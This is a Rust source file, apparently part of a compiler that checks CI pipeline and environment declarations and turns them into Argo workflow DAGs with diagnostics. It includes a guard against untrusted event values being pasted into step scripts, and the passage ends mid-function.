//! `pipeline` blocks and `environment` declarations: a service's CI as a checked DAG.
//!
//! Tasks are resolved in two passes: first every task's name and step definition, so that a reference
//! to a later task (`after lint`, `build.digest`) resolves whatever the order, then each task's
//! arguments, edges and condition. Every reference to another task's output is also an edge (Argo only
//! lets a task read the outputs of its ancestors). The graph is then searched for cycles once, in
//! linear time, and each cycle is printed in the order its tasks wait for each other.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;

use super::Checker;
use super::k8s_names;
use super::model::{
    CheckKind, Dependency, EnvironmentTarget, EventField, GitSource, Guard, Pipeline, Replicas, StepTemplate, Task,
    TaskKind, Trigger, TriggerEvent, Value, ValuePiece,
};
use super::platform::Platform;
use super::steps::StepParamType;
use super::units::Duration;
use super::values::{FieldSet, unknown_choice};
use crate::diagnostics::{Code, Diagnostic, suggest};
use crate::names::{ModuleId, StepId, Symbol, SymbolKind};
use crate::source::Span;
use crate::syntax::ast::{self, Expr, ExprKind, Ident, StrPart};

const PIPELINE_FIELDS: &[&str] = &["source", "timeout", "volume"];
const ENVIRONMENT_FIELDS: &[&str] = &["namespace", "replicas"];
const TRIGGERS: &[&str] = &["push", "tag", "pull_request"];
const SOURCES: &[&str] = &["github", "gitlab"];

/// The task every pipeline starts with, which fetches the sources; no task may take its name.
pub const CLONE_TASK: &str = "git-clone";

/// Argo's limits (ARGO.md): tasks in one DAG and templates in one WorkflowTemplate.
pub const MAX_DAG_TASKS: usize = 200;
/// See [`MAX_DAG_TASKS`].
pub const MAX_TEMPLATES: usize = 200;

/// The longest Argo template or task name.
const MAX_ARGO_NAME: usize = 128;

/// How long a run may take when the pipeline does not say.
const DEFAULT_TIMEOUT_SECONDS: u64 = 3600;

/// The working volume's size when the pipeline does not say.
const DEFAULT_VOLUME: &str = "1Gi";

/// The Service Argo Events creates for an EventSource is named `<name>-eventsource-svc`, and the
/// EventSource of a service is `<service>-git`.
const EVENT_SOURCE_SERVICE_SUFFIX: &str = "-git-eventsource-svc";

/// A checked `environment` declaration.
#[derive(Debug)]
pub struct CheckedEnvironment {
    /// Its name.
    pub name: String,
    /// Its namespace.
    pub namespace: String,
    /// Its `replicas`, with where it is written.
    pub replicas: Option<(EnvironmentReplicas, Span)>,
}

/// An environment's `replicas`.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum EnvironmentReplicas {
    /// `replicas = 1`
    Fixed(u32),
    /// `replicas = 2..4`, for autoscaled services.
    Range(u32, u32),
}

/// An edge as written, for the cycle report.
#[derive(Clone, Copy, Debug)]
struct Edge {
    target: usize,
    must_succeed: bool,
    span: Span,
}

/// A parameter of the step a task uses, as the task's arguments are checked against it.
struct ParamUse {
    name: String,
    required: bool,
    ty: StepParamType,
    /// Where the step's script interpolates it, if it does.
    in_script: Option<Span>,
}

/// A pipeline's tasks once checked: the tasks, the step definitions they use, the event values they
/// read.
struct CheckedTasks {
    tasks: Vec<Task>,
    steps: Vec<Arc<StepTemplate>>,
    events: BTreeSet<EventField>,
}

/// What the second pass knows about every task.
struct Tasks<'a> {
    decls: Vec<&'a ast::Task>,
    by_name: BTreeMap<&'a str, usize>,
    /// The step definition of each step task, when it resolved.
    step_of: Vec<Option<StepId>>,
}

/// What a value may refer to while one task is checked.
struct ValueScope<'s, 'a> {
    tasks: &'s Tasks<'a>,
    module: ModuleId,
    platform: Option<&'s Platform>,
    replicas: Option<Replicas>,
    service: &'s str,
    image: &'s str,
    edges: &'s mut Vec<Edge>,
    events: &'s mut BTreeSet<EventField>,
}

impl Checker<'_> {
    /// Checks an environment declaration once; `None` if it has errors.
    pub(super) fn environment(&mut self, decl: &ast::Environment) -> Option<CheckedEnvironment> {
        let errors_before = self.error_count();
        let fields = FieldSet::new(self, &decl.fields, ENVIRONMENT_FIELDS, "an environment");
        let namespace = match fields.get("namespace") {
            Some(field) => self
                .plain_string(&field.value, "`namespace`")
                .filter(|namespace| k8s_names::check_namespace(self, namespace, field.value.span)),
            None => {
                self.report(
                    Diagnostic::new(
                        Code::E0210,
                        decl.name.span,
                        format!("environment `{}` has no `namespace`", decl.name.name),
                    )
                    .label("`namespace` is required")
                    .help(format!("add `namespace = \"{}\"`", decl.name.name)),
                );
                None
            }
        };
        let replicas = fields.get("replicas").map(|field| {
            let replicas = match &field.value.kind {
                ExprKind::Range(low, high) => {
                    let low = self.integer(low, "the least replicas", 1..=1000);
                    let high = self.integer(high, "the most replicas", 1..=1000);
                    match (low, high) {
                        (Some(low), Some(high)) if low > high => {
                            self.report(
                                Diagnostic::new(Code::E0303, field.value.span, "the range of replicas is inverted")
                                    .label(format!("{low} is more than {high}"))
                                    .help(format!("write `{high}..{low}`")),
                            );
                            None
                        }
                        (Some(low), Some(high)) => Some(EnvironmentReplicas::Range(low as u32, high as u32)),
                        _ => None,
                    }
                }
                _ => self
                    .integer(&field.value, "`replicas`", 1..=1000)
                    .map(|n| EnvironmentReplicas::Fixed(n as u32)),
            };
            replicas.map(|replicas| (replicas, field.value.span))
        });
        if self.error_count() > errors_before {
            return None;
        }
        Some(CheckedEnvironment {
            name: decl.name.name.clone(),
            namespace: namespace?,
            replicas: replicas.flatten(),
        })
    }

    /// The `pipeline` of a service, and the environments it deploys to. `None` after reporting.
    pub(super) fn pipeline(
        &mut self,
        decl: &ast::Service,
        module: ModuleId,
        platform: Option<&Platform>,
        image: Option<&str>,
        replicas: Option<Replicas>,
    ) -> Option<(Option<Pipeline>, Vec<EnvironmentTarget>)> {
        let Some(block) = decl.pipelines.first() else {
            return Some((None, Vec::new()));
        };
        let errors_before = self.error_count();
        for extra in decl.pipelines.iter().skip(1) {
            self.report(super::release::written_twice(extra.keyword, block.keyword, "pipeline"));
        }
        let fields = FieldSet::new(self, &block.fields, PIPELINE_FIELDS, "a pipeline");
        let source = match fields.get("source") {
            Some(field) => self.git_source(&field.value),
            None => {
                self.report(
                    Diagnostic::new(Code::E0210, block.keyword, "the pipeline has no `source`")
                        .label("which repository does it build?")
                        .help(format!(
                            "add `source = github(\"<owner>/{name}\")`, or `gitlab(\"<group>/{name}\")` for a GitLab project",
                            name = decl.name.name
                        )),
                );
                None
            }
        };
        let timeout =
            fields
                .get("timeout")
                .map_or(Some(Duration::from_millis(DEFAULT_TIMEOUT_SECONDS * 1000)), |field| {
                    // `argo stop` and `argo terminate` work by setting the deadline to 0.
                    self.positive_seconds(&field.value, "Argo would stop every run as soon as it starts")
                });
        let volume = fields
            .get("volume")
            .map_or(Some(DEFAULT_VOLUME.to_string()), |field| self.volume(&field.value));
        self.gitops_for_deploys(block, platform);
        let triggers = self.triggers(block, decl, platform);
        let image_name = image.map(image_without_version).unwrap_or_default();
        let graph = self.tasks(block, decl, module, platform, &image_name, replicas);
        if self.error_count() > errors_before {
            return None;
        }
        let CheckedTasks { tasks, steps, events } = graph?;
        let mut environments: Vec<EnvironmentTarget> = Vec::new();
        for task in &tasks {
            if let TaskKind::Deploy { environment, .. } = &task.kind
                && !environments.iter().any(|known| known.name == environment.name)
            {
                environments.push(EnvironmentTarget::clone(environment));
            }
        }
        environments.sort_by(|a, b| a.name.cmp(&b.name));
        Some((
            Some(Pipeline {
                span: block.span,
                source: source?,
                triggers,
                timeout: timeout?,
                volume: volume?,
                event_fields: events
                    .into_iter()
                    .filter(|field| !matches!(field, EventField::Revision | EventField::Branch))
                    .collect(),
                tasks,
                steps,
                webhook_url: platform.and_then(|p| p.webhook_url.clone()),
                gitops: platform.and_then(|p| p.gitops.clone()),
                image_name,
            }),
            environments,
        ))
    }

    /// The working volume's size, more than zero.
    fn volume(&mut self, expr: &Expr) -> Option<String> {
        let memory = self.memory(expr, "`volume`")?;
        if memory.bytes() == 0 {
            self.report(
                Diagnostic::new(Code::E0305, expr.span, "`volume` is zero")
                    .label("the steps share this volume: the sources are cloned into it")
                    .help(format!(
                        "write e.g. `volume = 5Gi`, or leave `volume` out for {DEFAULT_VOLUME}"
                    )),
            );
            return None;
        }
        Some(memory.to_quantity().to_string())
    }

    /// Deploys push to the platform's GitOps repository: said once, at the first deploy, when it has
    /// none.
    fn gitops_for_deploys(&mut self, block: &ast::Pipeline, platform: Option<&Platform>) {
        let first_deploy = block
            .tasks
            .iter()
            .find(|task| matches!(task.kind, ast::TaskKind::Deploy { .. }));
        if let Some(deploy) = first_deploy
            && platform.is_some_and(|p| p.gitops.is_none())
        {
            self.report(
                Diagnostic::new(Code::E0210, deploy.name.span, "the platform has no `gitops` repository")
                    .label("a deploy pushes the new digest to the GitOps repository")
                    .help("add `gitops = \"https://git.example.com/shop/deploy.git\"` to the platform"),
            );
        }
    }

    /// `github("owner/repository")` or `gitlab("group/project", url: "https://gitlab.example.com")`.
    fn git_source(&mut self, expr: &Expr) -> Option<GitSource> {
        let ExprKind::Call(call) = &expr.kind else {
            self.mismatch(
                expr,
                "`source`",
                "`github(\"owner/repository\")` or `gitlab(\"group/project\")`",
            );
            return None;
        };
        let name = call.callee_name();
        match name.as_str() {
            "github" => {
                let args = self.bind_args(call, &[super::args::ParamSpec::required("repository")], "github")?;
                let repo_expr = args.first().copied().flatten()?;
                let path = self.plain_string(repo_expr, "the repository")?;
                match path.split_once('/') {
                    Some((owner, repository))
                        if is_repo_segment(owner) && is_repo_segment(repository) && !repository.contains('/') =>
                    {
                        Some(GitSource::GitHub {
                            owner: owner.to_string(),
                            repository: repository.trim_end_matches(".git").to_string(),
                        })
                    }
                    _ => {
                        self.report(
                            Diagnostic::new(
                                Code::E0305,
                                repo_expr.span,
                                format!("`{path}` is not a GitHub repository"),
                            )
                            .label("expected `owner/repository`")
                            .help("write e.g. `github(\"shop/checkout\")`"),
                        );
                        None
                    }
                }
            }
            "gitlab" => {
                let params = [
                    super::args::ParamSpec::required("project"),
                    super::args::ParamSpec::optional("url"),
                ];
                let args = self.bind_args(call, &params, "gitlab")?;
                let project_expr = args.first().copied().flatten()?;
                let project = self.plain_string(project_expr, "the project")?;
                let base_url = match args.get(1).copied().flatten() {
                    Some(url_expr) => {
                        let url = self.plain_string(url_expr, "`url`")?;
                        if !url.starts_with("https://") || url.contains(char::is_whitespace) {
                            self.report(
                                Diagnostic::new(Code::E0509, url_expr.span, "the GitLab `url` is not an `https` URL")
                                    .label("expected `https://host`")
                                    .help("write e.g. `url: \"https://gitlab.example.com\"`"),
                            );
                            return None;
                        }
                        url.trim_end_matches('/').to_string()
                    }
                    None => "https://gitlab.com".to_string(),
                };
                let segments: Vec<&str> = project.split('/').collect();
                if segments.len() < 2 || !segments.iter().all(|segment| is_repo_segment(segment)) {
                    self.report(
                        Diagnostic::new(
                            Code::E0305,
                            project_expr.span,
                            format!("`{project}` is not a GitLab project path"),
                        )
                        .label("expected `group/project`")
                        .help("write e.g. `gitlab(\"shop/checkout\")`"),
                    );
                    return None;
                }
                Some(GitSource::GitLab { project, base_url })
            }
            other => {
                self.report(unknown_choice(
                    Code::E0201,
                    call.callee_span(),
                    other,
                    "source",
                    SOURCES,
                ));
                None
            }
        }
    }

    /// The `on` clauses.
    fn triggers(&mut self, block: &ast::Pipeline, decl: &ast::Service, platform: Option<&Platform>) -> Vec<Trigger> {
        let mut triggers = Vec::new();
        for trigger in &block.triggers {
            let call = &trigger.event;
            let name = call.callee_name();
            let (param, kind) = match name.as_str() {
                "push" => ("branch", 0),
                "tag" => ("pattern", 1),
                "pull_request" => ("branch", 2),
                other => {
                    let help = suggest::help_for(other, TRIGGERS.iter().copied()).unwrap_or_else(|| {
                        "a pipeline starts `on push(branch: \"main\")`, `on tag(\"v*\")` or `on pull_request`".into()
                    });
                    self.report(
                        Diagnostic::new(
                            Code::E0406,
                            call.callee_span(),
                            format!("`{other}` is not an event a pipeline can start on"),
                        )
                        .label("unknown event")
                        .help(help),
                    );
                    continue;
                }
            };
            let Some(args) = self.bind_args(call, &[super::args::ParamSpec::optional(param)], &name) else {
                continue;
            };
            let values = match args.first().copied().flatten() {
                Some(expr) => match self.names_list(expr, param) {
                    Some(values) => values,
                    None => continue,
                },
                None => Vec::new(),
            };
            let event = match kind {
                0 => TriggerEvent::Push { branches: values },
                1 => TriggerEvent::Tag { patterns: values },
                _ => TriggerEvent::PullRequest { branches: values },
            };
            triggers.push(Trigger {
                event,
                span: trigger.span,
            });
        }
        if let Some(first) = block.triggers.first()
            && platform.is_some_and(|p| p.webhook_url.is_none())
        {
            self.report(
                Diagnostic::new(Code::E0210, first.span, "the platform has no `webhook_url`")
                    .label("the git host must be told where to send this event")
                    .help("add `webhook_url = \"https://hooks.example.com\"` to the platform: the public address of the Argo Events webhook"),
            );
        }
        if !block.triggers.is_empty() && decl.name.name.len() + EVENT_SOURCE_SERVICE_SUFFIX.len() > 63 {
            self.report(
                Diagnostic::new(
                    Code::E0601,
                    decl.name.span,
                    format!("service `{}` is too long a name for a webhook", decl.name.name),
                )
                .label(format!(
                    "Argo Events names its Service `{}{EVENT_SOURCE_SERVICE_SUFFIX}`, more than 63 characters",
                    decl.name.name
                ))
                .help(format!(
                    "use a service name of at most {} characters",
                    63 - EVENT_SOURCE_SERVICE_SUFFIX.len()
                )),
            );
        }
        triggers
    }

    /// A string or a list of strings: branch names or tag patterns.
    fn names_list(&mut self, expr: &Expr, what: &str) -> Option<Vec<String>> {
        let items: Vec<&Expr> = match &expr.kind {
            ExprKind::List(items) => items.iter().collect(),
            _ => vec![expr],
        };
        let mut values = Vec::new();
        for item in items {
            let value = self.plain_string(item, &format!("`{what}`"))?;
            if value.is_empty() || value.contains(char::is_whitespace) {
                self.report(
                    Diagnostic::new(Code::E0305, item.span, format!("`{value}` is not a git {what}"))
                        .label("git names are not empty and have no spaces"),
                );
                return None;
            }
            values.push(value);
        }
        Some(values)
    }

    /// Both passes over the tasks; `None` after reporting.
    fn tasks(
        &mut self,
        block: &ast::Pipeline,
        decl: &ast::Service,
        module: ModuleId,
        platform: Option<&Platform>,
        image: &str,
        replicas: Option<Replicas>,
    ) -> Option<CheckedTasks> {
        if block.tasks.is_empty() {
            self.report(
                Diagnostic::new(Code::E0210, block.keyword, "the pipeline has no tasks")
                    .label("nothing to run")
                    .help("add e.g. `step test = cargo_test()`"),
            );
            return None;
        }
        let tasks = self.declare_tasks(block, module)?;
        let mut checked = Vec::new();
        let mut edges_of = Vec::new();
        let mut events = BTreeSet::new();
        let mut step_index: BTreeMap<StepId, usize> = BTreeMap::new();
        let mut steps: Vec<Arc<StepTemplate>> = Vec::new();
        let mut ok = true;
        for (idx, task) in tasks.decls.iter().enumerate() {
            let mut edges = Vec::new();
            let mut scope = ValueScope {
                tasks: &tasks,
                module,
                platform,
                replicas,
                service: &decl.name.name,
                image,
                edges: &mut edges,
                events: &mut events,
            };
            let kind = match &task.kind {
                ast::TaskKind::Step(call) => tasks.step_of.get(idx).copied().flatten().and_then(|id| {
                    let args = self.step_args(call, id, &mut scope)?;
                    let next = steps.len();
                    let step = *step_index.entry(id).or_insert(next);
                    if step == next {
                        steps.push(Arc::clone(&self.defs.steps.get(id.0)?.as_ref()?.template));
                    }
                    Some(TaskKind::Step { step, args })
                }),
                ast::TaskKind::Deploy { digest, environment } => self.deploy(digest, environment, &mut scope),
                ast::TaskKind::Approve => Some(TaskKind::Approve),
                ast::TaskKind::Check { environment, probe } => self.pipeline_check(environment, probe, &mut scope),
            };
            for after in &task.after {
                match tasks.by_name.get(after.name.as_str()) {
                    Some(target) => scope.edges.push(Edge {
                        target: *target,
                        // An approval is a gate: a task after it must not run when it is skipped.
                        must_succeed: matches!(tasks.decls.get(*target).map(|t| &t.kind), Some(ast::TaskKind::Approve)),
                        span: after.span,
                    }),
                    None => {
                        ok = false;
                        self.unknown_task(after, &tasks);
                    }
                }
            }
            let when = task.when.as_ref().and_then(|guard| self.guard(guard, &mut scope));
            if kind.is_none() || (task.when.is_some() && when.is_none()) {
                ok = false;
            }
            checked.push((kind, when));
            edges_of.push(edges);
        }
        // Edges that resolved are real: a cycle among them is worth reporting with the other errors.
        if !self.acyclic(&tasks, &edges_of) || !ok {
            return None;
        }
        self.check_template_count(block, &tasks, &steps);
        let mut result = Vec::with_capacity(tasks.decls.len());
        for ((task, (kind, when)), edges) in tasks.decls.iter().zip(checked).zip(edges_of) {
            let mut needs: BTreeMap<usize, bool> = BTreeMap::new();
            for edge in edges {
                *needs.entry(edge.target).or_insert(false) |= edge.must_succeed;
            }
            result.push(Task {
                name: task.name.name.clone(),
                span: task.span,
                kind: kind?,
                needs: needs
                    .into_iter()
                    .map(|(task, must_succeed)| Dependency { task, must_succeed })
                    .collect(),
                when: when.map(Box::new),
            });
        }
        Some(CheckedTasks {
            tasks: result,
            steps,
            events,
        })
    }

    /// The first pass: names (unique once `_` becomes `-`, as Argo writes them, and valid Argo
    /// names) and the step definition of each step task.
    fn declare_tasks<'a>(&mut self, block: &'a ast::Pipeline, module: ModuleId) -> Option<Tasks<'a>> {
        let mut tasks = Tasks {
            decls: Vec::new(),
            by_name: BTreeMap::new(),
            step_of: Vec::new(),
        };
        let mut by_argo_name: BTreeMap<String, &ast::Task> = BTreeMap::new();
        let mut ok = true;
        for task in &block.tasks {
            let name = &task.name;
            let argo_name = name.name.replace('_', "-");
            if argo_name == CLONE_TASK {
                ok = false;
                let mut diagnostic = Diagnostic::new(
                    Code::E0202,
                    name.span,
                    format!("`{}` is the name of the task that fetches the sources", name.name),
                )
                .label("taken by shipc")
                .help("choose another name");
                if name.name != CLONE_TASK {
                    diagnostic = diagnostic.note(format!(
                        "Argo writes `_` as `-`: this task would be `{CLONE_TASK}`, which every pipeline starts with"
                    ));
                }
                self.report(diagnostic);
            } else if let Some(first) = by_argo_name.get(&argo_name) {
                ok = false;
                self.report(duplicate_task(first, task, &argo_name));
            } else {
                by_argo_name.insert(argo_name.clone(), task);
            }
            // A check task's template is `check-<task>`: the longest derived name.
            let longest = if matches!(task.kind, ast::TaskKind::Check { .. }) {
                argo_name.len() + "check-".len()
            } else {
                argo_name.len()
            };
            if !argo_name.starts_with(|c: char| c.is_ascii_alphanumeric()) || longest > MAX_ARGO_NAME {
                ok = false;
                self.report(
                    Diagnostic::new(
                        Code::E0601,
                        name.span,
                        format!("`{}` is not a valid Argo task name", name.name),
                    )
                    .label(if longest > MAX_ARGO_NAME {
                        format!("Argo names are at most {MAX_ARGO_NAME} characters")
                    } else {
                        "Argo task names start with a letter or digit".to_string()
                    })
                    .help("rename the task"),
                );
            }
            tasks.by_name.entry(name.name.as_str()).or_insert(tasks.decls.len());
            let step = match &task.kind {
                ast::TaskKind::Step(call) => {
                    let resolved = self.step_use(call, module);
                    ok &= resolved.is_some();
                    resolved.flatten()
                }
                _ => None,
            };
            tasks.step_of.push(step);
            tasks.decls.push(task);
        }
        ok.then_some(tasks)
    }

    /// The step definition a step task uses: `Some(None)` when it is known but has errors of its own
    /// (reported there), `None` after reporting an unknown name.
    fn step_use(&mut self, call: &ast::Call, module: ModuleId) -> Option<Option<StepId>> {
        let program = self.program;
        let span = call.callee_span();
        match program.resolve(module, &call.callee, span, SymbolKind::Step) {
            Ok(Symbol::Step(id)) => Some(self.defs.steps.get(id.0).and_then(Option::as_ref).map(|_| id)),
            Ok(Symbol::Unparsed) => Some(None),
            Ok(_) => {
                self.report(program.unknown(module, &call.callee, span, SymbolKind::Step));
                None
            }
            Err(diagnostic) => {
                self.report(*diagnostic);
                None
            }
        }
    }

    fn unknown_task(&mut self, name: &Ident, tasks: &Tasks<'_>) {
        let help = suggest::help_for(&name.name, tasks.by_name.keys().copied())
            .unwrap_or_else(|| "name a task of this pipeline".to_string());
        self.report(
            Diagnostic::new(
                Code::E0402,
                name.span,
                format!("the pipeline has no task `{}`", name.name),
            )
            .label("unknown task")
            .help(help),
        );
    }

    /// The arguments of a step task, one per parameter of the definition.
    fn step_args(
        &mut self,
        call: &ast::Call,
        id: StepId,
        scope: &mut ValueScope<'_, '_>,
    ) -> Option<Vec<Option<Value>>> {
        let (params, step_name): (Vec<ParamUse>, String) = {
            let step = self.defs.steps.get(id.0)?.as_ref()?;
            let params = step
                .template
                .params
                .iter()
                .zip(&step.types)
                .map(|(param, ty)| ParamUse {
                    name: param.name.clone(),
                    required: param.default.is_none(),
                    ty: *ty,
                    in_script: step.in_script.get(&param.name).copied(),
                })
                .collect();
            (params, step.template.name.clone())
        };
        let specs: Vec<super::args::ParamSpec<'_>> = params
            .iter()
            .map(|param| super::args::ParamSpec {
                name: &param.name,
                required: param.required,
            })
            .collect();
        let bound = self.bind_args(call, &specs, &step_name)?;
        let mut values = Vec::new();
        let mut ok = true;
        for (
            ParamUse {
                name: param,
                ty,
                in_script,
                ..
            },
            arg,
        ) in params.iter().zip(bound)
        {
            let Some(expr) = arg else {
                values.push(None);
                continue;
            };
            let Some(value) = self.task_value(expr, *ty, &format!("`{param}`"), scope) else {
                ok = false;
                continue;
            };
            if let Some(script_at) = *in_script
                && let Some(field) = value.pieces.iter().find_map(|piece| match piece {
                    ValuePiece::Event(field) if field.is_untrusted() => Some(*field),
                    _ => None,
                })
            {
                ok = false;
                let variable = param.to_ascii_uppercase().replace('-', "_");
                self.report(
                    Diagnostic::new(
                        Code::E0404,
                        expr.span,
                        format!("`event.{}` would be pasted into the script of step `{step_name}`", field.name()),
                    )
                    .label("chosen by whoever pushes")
                    .secondary(script_at, format!("`${{{param}}}` is replaced by its value before the shell reads the script"))
                    .help(format!(
                        "pass it through the environment: in step `{step_name}`, set `env = {{ {variable}: {param} }}` and write \"${variable}\", in double quotes, in the script"
                    ))
                    .note(injection_example(field)),
                );
                continue;
            }
            values.push(Some(value));
        }
        ok.then_some(values)
    }

    /// A value passed to a task: a literal of the parameter's type, or text with references.
    fn task_value(
        &mut self,
        expr: &Expr,
        ty: StepParamType,
        what: &str,
        scope: &mut ValueScope<'_, '_>,
    ) -> Option<Value> {
        let pieces = match &expr.kind {
            ExprKind::Path(path) => vec![self.reference(path, expr.span, scope)?],
            ExprKind::Str(literal) if !literal.malformed && ty == StepParamType::String => {
                let mut pieces = Vec::new();
                let mut ok = true;
                for part in &literal.parts {
                    match part {
                        StrPart::Text(piece) => pieces.push(ValuePiece::Text(piece.text.clone())),
                        StrPart::Interpolation(interpolation) => {
                            match self.reference(&interpolation.path, interpolation.span, scope) {
                                Some(piece) => pieces.push(piece),
                                None => ok = false,
                            }
                        }
                    }
                }
                if !ok {
                    return None;
                }
                pieces
            }
            _ => vec![ValuePiece::Text(self.step_literal(expr, ty, what)?)],
        };
        let is_text = pieces.iter().all(|piece| matches!(piece, ValuePiece::Text(_)));
        if ty != StepParamType::String && !is_text {
            self.report(
                Diagnostic::new(
                    Code::E0302,
                    expr.span,
                    format!(
                        "{what} takes {}, found text known only when the pipeline runs",
                        ty.describe()
                    ),
                )
                .label(format!("expected {}", ty.describe()))
                .help(format!(
                    "write {} here, or make the parameter a `string`, which can take a value known only when the pipeline runs",
                    ty.describe()
                )),
            );
            return None;
        }
        Some(Value { pieces })
    }

    /// `event.branch`, `build.digest`, `service.image`, `platform.registry`.
    fn reference(&mut self, path: &[Ident], span: Span, scope: &mut ValueScope<'_, '_>) -> Option<ValuePiece> {
        let head = path.first()?;
        let field = path.get(1);
        match (head.name.as_str(), field, path.len()) {
            ("event", Some(field), 2) => {
                let Some(event) = EventField::ALL.iter().copied().find(|f| f.name() == field.name) else {
                    let names = EventField::ALL.map(EventField::name);
                    self.report(unknown_choice(
                        Code::E0211,
                        field.span,
                        &field.name,
                        "event value",
                        &names,
                    ));
                    return None;
                };
                scope.events.insert(event);
                Some(ValuePiece::Event(event))
            }
            ("service", Some(field), 2) => match field.name.as_str() {
                "name" => Some(ValuePiece::Text(scope.service.to_string())),
                "image" => Some(ValuePiece::Text(scope.image.to_string())),
                other => {
                    self.report(unknown_choice(
                        Code::E0211,
                        field.span,
                        other,
                        "service value",
                        &["name", "image"],
                    ));
                    None
                }
            },
            ("platform", Some(field), 2) if let Some(platform) = scope.platform => {
                if let Some(value) = platform.field(&field.name) {
                    return Some(ValuePiece::Text(value.to_string()));
                }
                if Platform::FIELDS.contains(&field.name.as_str()) {
                    self.report(
                        Diagnostic::new(Code::E0210, span, format!("the platform sets no `{}`", field.name))
                            .label("used here")
                            .secondary(platform.keyword, "this platform")
                            .help(format!("add `{} = \"...\"` to the platform", field.name)),
                    );
                } else {
                    self.report(unknown_choice(
                        Code::E0211,
                        field.span,
                        &field.name,
                        "platform value",
                        Platform::FIELDS,
                    ));
                }
                None
            }
            (name, _, _) => {
                let Some(target) = scope.tasks.by_name.get(name).copied() else {
                    let help = suggest::help_for(
                        name,
                        scope
                            .tasks
                            .by_name
                            .keys()
                            .copied()
                            .chain(["event", "service", "platform"]),
                    )
                    .unwrap_or_else(|| {
                        "refer to a task's output (`build.digest`) or an event value (`event.branch`)".to_string()
                    });
                    self.report(
                        Diagnostic::new(Code::E0402, head.span, format!("the pipeline has no task `{name}`"))
                            .label("unknown task")
                            .help(help),
                    );
                    return None;
                };
                let output = self.task_output(target, head, field, path.len(), span, scope)?;
                scope.edges.push(Edge {
                    target,
                    must_succeed: true,
                    span,
                });
                Some(ValuePiece::Output { task: target, output })
            }
        }
    }

    /// The output `task.output` names, if the task's step declares it.
    fn task_output(
        &mut self,
        target: usize,
        task: &Ident,
        field: Option<&Ident>,
        path_len: usize,
        span: Span,
        scope: &ValueScope<'_, '_>,
    ) -> Option<String> {
        let step = match scope.tasks.decls.get(target).map(|t| &t.kind) {
            Some(ast::TaskKind::Step(_)) => scope.tasks.step_of.get(target).copied().flatten(),
            _ => {
                self.report(
                    Diagnostic::new(Code::E0403, span, format!("task `{}` has no outputs", task.name))
                        .label("only steps declare outputs")
                        .help("read the output of a `step` task, e.g. `build.digest`"),
                );
                return None;
            }
        };
        // The definition had errors of its own, already reported.
        let checked = self.defs.steps.get(step?.0)?.as_ref()?;
        let outputs: Vec<String> = checked.output_names().map(str::to_string).collect();
        let step_name = checked.template.name.clone();
        match field {
            Some(field) if path_len == 2 && outputs.contains(&field.name) => Some(field.name.clone()),
            Some(field) if path_len == 2 => {
                let help = suggest::help_for(&field.name, outputs.iter().map(String::as_str)).unwrap_or_else(|| {
                    if outputs.is_empty() {
                        format!(
                            "declare it in step `{step_name}`: `outputs = {{ {}: \"/work/{}\" }}`",
                            field.name, field.name
                        )
                    } else {
                        format!(
                            "its outputs are {}",
                            super::values::list_in_backticks(&outputs.iter().map(String::as_str).collect::<Vec<_>>())
                        )
                    }
                });
                self.report(
                    Diagnostic::new(
                        Code::E0403,
                        field.span,
                        format!("step `{step_name}` has no output `{}`", field.name),
                    )
                    .label("not declared")
                    .help(help),
                );
                None
            }
            _ => {
                self.report(
                    Diagnostic::new(Code::E0403, span, format!("`{}` is a task, not a value", task.name))
                        .label("which of its outputs?")
                        .help(match outputs.first() {
                            Some(output) => format!("write e.g. `{}.{output}`", task.name),
                            None => format!("step `{step_name}` declares no outputs"),
                        }),
                );
                None
            }
        }
    }

    /// `deploy build.digest to staging`.
    fn deploy(&mut self, digest: &Expr, environment: &Ident, scope: &mut ValueScope<'_, '_>) -> Option<TaskKind> {
        let environment = self
            .environment_use(environment, scope.module)
            .and_then(|target| self.with_replicas(target, environment, scope.module, scope.replicas));
        let digest = match &digest.kind {
            ExprKind::Path(path) => self.reference(path, digest.span, scope),
            _ => None,
        }
        .and_then(|piece| match piece {
            ValuePiece::Output { .. } => Some(Value { pieces: vec![piece] }),
            _ => {
                self.report(
                    Diagnostic::new(Code::E0302, digest.span, "a deploy takes the image digest a step wrote")
                        .label("not a step output")
                        .help("write e.g. `deploy build.digest to staging`"),
                );
                None
            }
        });
        Some(TaskKind::Deploy {
            environment: Box::new(environment?),
            digest: digest?,
        })
    }

    /// `check smoke on staging = http_get(...)`: runs after the deploy to that environment.
    fn pipeline_check(
        &mut self,
        environment: &Ident,
        probe: &ast::Call,
        scope: &mut ValueScope<'_, '_>,
    ) -> Option<TaskKind> {
        let target = self.environment_use(environment, scope.module);
        let check = self.check_kind(probe, scope.module, scope.platform);
        let deploy_name = format!("deploy_{}", environment.name);
        let deploy = scope.tasks.by_name.get(deploy_name.as_str()).copied().filter(|idx| {
            matches!(
                scope.tasks.decls.get(*idx).map(|t| &t.kind),
                Some(ast::TaskKind::Deploy { .. })
            )
        });
        match deploy {
            Some(deploy) => scope.edges.push(Edge {
                target: deploy,
                must_succeed: true,
                span: environment.span,
            }),
            None if target.is_some() => {
                self.report(
                    Diagnostic::new(
                        Code::E0407,
                        environment.span,
                        format!("the pipeline never deploys to `{}`", environment.name),
                    )
                    .label("nothing new to check there")
                    .help(format!(
                        "deploy to it first, e.g. `deploy build.digest to {}`: the check then waits for that deploy",
                        environment.name
                    )),
                );
                return None;
            }
            None => return None,
        }
        let check: CheckKind = check?;
        Some(TaskKind::Check {
            environment: Box::new(target?),
            check: Box::new(check),
        })
    }

    /// The environment a deploy or check names, with this service's overrides.
    fn environment_use(&mut self, name: &Ident, module: ModuleId) -> Option<EnvironmentTarget> {
        let program = self.program;
        let path = std::slice::from_ref(name);
        match program.resolve(module, path, name.span, SymbolKind::Environment) {
            Ok(Symbol::Environment(id)) => {
                let checked = self.defs.environments.get(id.0)?.as_ref()?;
                Some(EnvironmentTarget {
                    name: checked.name.clone(),
                    namespace: checked.namespace.clone(),
                    replicas: None,
                })
            }
            Ok(Symbol::Unparsed) => None,
            Ok(_) => {
                self.report(program.unknown(module, path, name.span, SymbolKind::Environment));
                None
            }
            Err(diagnostic) => {
                self.report(*diagnostic);
                None
            }
        }
    }

    /// The environment's `replicas` applied to a service running `replicas`: a fixed count replaces
    /// a fixed count or pins an autoscaled range, a range replaces an autoscaled range.
    fn with_replicas(
        &mut self,
        mut target: EnvironmentTarget,
        name: &Ident,
        module: ModuleId,
        replicas: Option<Replicas>,
    ) -> Option<EnvironmentTarget> {
